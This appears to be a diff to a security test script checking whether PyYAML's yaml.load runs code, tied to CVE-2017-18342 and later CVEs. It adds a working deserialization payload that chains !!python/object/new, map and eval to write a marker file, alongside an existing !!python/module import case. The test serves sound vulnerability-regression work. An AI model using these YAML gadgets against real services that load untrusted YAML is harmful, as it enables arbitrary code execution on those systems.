@@ -16,17 +16,19 @@
 # attack = "load of a document that applies eval writes a marker file"
 # [cases.variants]
 # import_module = "load_all of a document that names a module imports it, which runs the module"
+# object_new = "load of a document that builds objects out of map and eval writes the marker"
 # [cases.controls]
 # mapping = "load of an ordinary document gives the ordinary values"
 #
 # [test]
 # vulnerable = "4.2b4"
-# fixed = "5.1"
+# fixed = "5.4"
 # build-constraints = ["cython<3"]
 # ///
 """CVE-2017-18342: the default loader of yaml.load calls Python functions.
 
-What the default loader of 5.1 to 5.3.1 still lets through has numbers of its own: CVE-2020-1747 and CVE-2020-14343.
+5.1 made another loader the default, which refuses functions but still builds objects that call them; what was
+left got numbers of its own (CVE-2020-1747, CVE-2020-14343) and yaml.load runs no code since 5.4 only.
 """
 
 import collections
@@ -88,6 +90,13 @@ def import_module():
     return load_and_look(lambda document: list(load_all(document)), "--- {a: 1}\n--- [!!python/module:side_effect '']\n")
 
 
+def object_new():
+    import yaml
+
+    document = "!!python/object/new:tuple\n- !!python/object/new:map\n  - !!python/name:eval\n  - [ \"open('%s', 'w').close()\" ]\n"
+    return load_and_look(default(yaml.load), document % MARKER)
+
+
 def mapping():
     import yaml
 
@@ -96,7 +105,7 @@ def mapping():
     return ("works", "parsed as written") if got == wanted else ("broken", repr(got))
 
 
-CASES = {"attack": attack, "import_module": import_module, "mapping": mapping}
+CASES = {"attack": attack, "import_module": import_module, "object_new": object_new, "mapping": mapping}
 
 if __name__ == "__main__":
     try:
